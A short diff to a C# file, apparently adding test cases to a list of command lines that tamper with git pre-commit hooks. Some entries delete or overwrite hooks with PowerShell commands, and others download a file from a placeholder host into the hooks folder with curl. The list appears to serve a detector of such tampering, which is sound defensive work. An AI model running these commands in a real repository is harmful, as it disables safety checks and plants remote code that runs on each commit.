@@ -140,6 +140,10 @@ internal static class CommandLines
         + find .git/hooks -type f -delete
         + Remove-Item .git/hooks/pre-commit
         + cpi x .git/hooks/pre-commit
+        + Set-Content -Encoding ascii .git/hooks/pre-commit x
+        + Set-Content -Value '' .git/hooks/pre-commit
+        + Copy-Item -Dest .git/hooks/pre-commit x
+        + Set-Content -Path:.git/hooks/pre-commit x
         + move x .git/hooks/pre-commit
         + curl -fsSo .git/hooks/pre-commit https://example.org/x
         + curl --output-dir .git/hooks -o pre-commit https://example.org/x
